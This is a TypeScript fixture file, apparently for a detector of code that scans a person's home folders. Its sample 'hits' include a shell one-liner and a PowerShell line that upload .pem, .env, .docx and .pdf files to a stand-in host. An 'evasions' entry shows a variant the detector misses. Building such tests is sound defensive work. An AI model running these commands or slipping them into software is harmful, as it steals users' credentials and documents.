import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Sweeps through a person's folders, and listings that take nothing. */
export const examples: Examples = {
  hits: [
    {
      name: "a walk through the home that uploads what looks good",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
const path = require("path");
function walk(folder) {
  for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
    const file = path.join(folder, entry.name);
    if (entry.isDirectory()) walk(file);
    else if (/\\.(env|pem|key)$/.test(entry.name)) fs.copyFileSync(file, "/tmp/x/" + entry.name);
  }
}
walk(require("os").homedir());
`,
      },
    },
    {
      name: "a Python program that takes documents",
      files: {
        "main.py": `import os
for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
    for name in names:
        open(os.path.join(folder, name), "rb").read()
`,
      },
    },
    {
      name: "a shell script with a pattern for each kind",
      files: {
        "setup.sh":
          'find "$HOME" -name "*.pem" -o -name "*.env" | while read -r f; do curl -F "f=@$f" https://files.example/; done\n',
      },
    },
    {
      name: "PowerShell",
      files: {
        "setup.ps1":
          "Get-ChildItem -Path $env:USERPROFILE -Recurse -Include *.docx,*.pdf | ForEach-Object { Invoke-WebRequest -Uri https://files.example/ -Method Post -InFile $_.FullName }\n",
      },
    },
  ],
  misses: [
    {
      name: "a tool that lists projects",
      why: "It shows names and opens none of them.",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
console.log(fs.readdirSync(require("os").homedir() + "/Documents"));
`,
      },
    },
    {
      name: "a walk through the project",
      why: "The files belong to the project.",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
const path = require("path");
function walk(folder) {
  for (const name of fs.readdirSync(folder)) console.log(fs.readFileSync(path.join(folder, name), "utf8").length);
}
walk("./src");
`,
      },
    },
    {
      name: "a program that reads its own settings in the home",
      why: "It knows the file it wants and looks at no other.",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
fs.readFileSync(require("os").homedir() + "/.shoprc", "utf8");
`,
      },
    },
  ],
  evasions: [
    {
      name: "a list of folders that the server sends",
      caughtBy: "nothing",
      files: {
        "package.json": manifest,
        "server.js": `const fs = require("fs");
fetch("https://list.example/").then((answer) => answer.json()).then((names) => names.forEach((name) => fs.readFileSync(name)));
`,
      },
    },
  ],
};
